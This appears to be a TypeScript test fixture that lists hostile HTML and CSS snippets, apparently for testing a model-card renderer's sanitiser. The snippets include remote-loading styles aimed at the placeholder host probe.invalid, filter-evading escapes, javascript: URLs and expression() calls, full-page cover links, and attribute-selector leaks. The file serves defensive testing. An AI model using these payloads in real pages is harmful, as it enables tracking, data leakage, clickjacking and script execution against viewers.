import { documents, snippets, type HostileDocuments } from './hostile-document.js';

const card = (text: string): string =>
  `# Bed Forecast Model Card\n\n## Intended Use\n\n**Scope:** One ward.\n\n${text}\n`;

/** Styles that load, cover the page or send what they match. */
export const styles: HostileDocuments = {
  ...snippets({
    'background that loads': '<p style="background:url(http://probe.invalid/background)">words</p>',
    'background in quotes': '<p style=\'background:url("http://probe.invalid/background")\'>words</p>',
    'image of a list': '<ul><li style="list-style-image:url(http://probe.invalid/list)">words</li></ul>',
    'image of a border': '<p style="border-image:url(http://probe.invalid/border) 1;border:1px solid">words</p>',
    'content of a picture': '<b style="content:url(http://probe.invalid/content)">words</b>',
    'pointer that loads':
      '<p style="cursor:url(http://probe.invalid/pointer),auto;background:url(//probe.invalid/pointer)">words</p>',
    'mask and filter':
      '<p style="mask:url(http://probe.invalid/mask);-webkit-mask-image:url(http://probe.invalid/mask);filter:url(http://probe.invalid/filter#x)">words</p>',
    escapes: '<p style="background:\\75\\72\\6c(http://probe.invalid/escape)">words</p>',
    'escapes and comments': '<p style="back/**/ground:red;background:u\\rl(http://probe.invalid/comment)">words</p>',
    entities: '<p style="background&colon;url&lpar;http://probe.invalid/entity&rpar;">words</p>',
    'image set': '<p style="background:image-set(\'http://probe.invalid/set\' 1x)">words</p>',
    variable: '<p style="--x:url(http://probe.invalid/variable);background:var(--x)">words</p>',
    expression: '<p style="width:expression(__nhsProbe());background:url(http://probe.invalid/expression)">words</p>',
    behaviour:
      '<p style="behavior:url(http://probe.invalid/x.htc);-moz-binding:url(http://probe.invalid/x.xml#x);background:url(http://probe.invalid/behaviour)">words</p>',
    'script as an address': '<p style="background:url(javascript:__nhsProbe())" onclick="__nhsProbe()">words</p>',
    'cover over the page':
      '<a href="https://probe.invalid/cover" style="position:fixed;inset:0;z-index:99999;background:url(http://probe.invalid/cover)">words</a>',
    'cover by attributes':
      '<table width="100%" height="9999" bgcolor="red" border="9" background="http://probe.invalid/table"><tr><td>words</td></tr></table>',
    'classes of ours':
      '<div class="nhsuk-u-visually-hidden nhs-root" part="base" hidden style="background:url(http://probe.invalid/class)">words</div>',
    'style element': '<style>*{background:url(http://probe.invalid/element)}</style><p>words</p>',
    'style element that imports':
      '<style>@import url(http://probe.invalid/import);</style><style>@import "http://probe.invalid/import2";</style>',
    'style element with a font':
      '<style>@font-face{font-family:x;src:url(http://probe.invalid/font)}*{font-family:x}</style>',
    'style element that reads attributes':
      '<style>a[href^="h"]{background:url(http://probe.invalid/attribute)}:host{display:none!important}</style><a href="https://probe.invalid/">words</a>',
    'style element for the host':
      '<style>:host,::slotted(*),::part(base){background:url(http://probe.invalid/host)}*{background:url(http://probe.invalid/all)}</style>',
    'style element that is never closed':
      '<p style="background:url(http://probe.invalid/open)">words</p><style>*{background:url(http://probe.invalid/open)}',
    'style element split by words':
      '<style>words</style ><style>*{}</style x>*{<p style="background:url(http://probe.invalid/split)">words</p>',
    'style sheet as data': '<link rel="stylesheet" href="data:text/css,*{background:url(http://probe.invalid/data)}">',
    'style sheet in XML':
      '<?xml-stylesheet href="http://probe.invalid/xml"?><link rel=stylesheet href=http://probe.invalid/xml>',
    'animation that loads':
      '<style>@keyframes x{from{background:url(http://probe.invalid/animation)}}*{animation:x 1s infinite}</style>',
    'names of ours':
      '<p class="nhs-probe nhsuk-probe" part="probe" slot="probe" exportparts="base:probe" role="region" tabindex="-1" style="background:url(http://probe.invalid/names)">words</p>',
    'slot of ours': '<slot><p style="background:url(http://probe.invalid/slot)">words</p></slot>',
    'variables of ours':
      '<p style="--nhs-ethics-rem:99px;--nhsuk-x:url(http://probe.invalid/own);background:var(--nhsuk-x)">words</p>',
    'names for transitions and anchors':
      '<p anchor="x" style="view-transition-name:root;anchor-name:--x;position:fixed;background:url(http://probe.invalid/transition)">words</p>',
    'very long style': `<p style="${'--x:y;'.repeat(20_000)}background:url(http://probe.invalid/long)">words</p>`,
  }),
  ...documents({
    'style in the middle of a document': card(
      'words <style>p{background:url(http://probe.invalid/middle)}</style> words',
    ),
    'style attribute in a table of Markdown': card(
      '| a |\n| - |\n| <b style="background:url(http://probe.invalid/cell)">words</b> |',
    ),
  }),
};
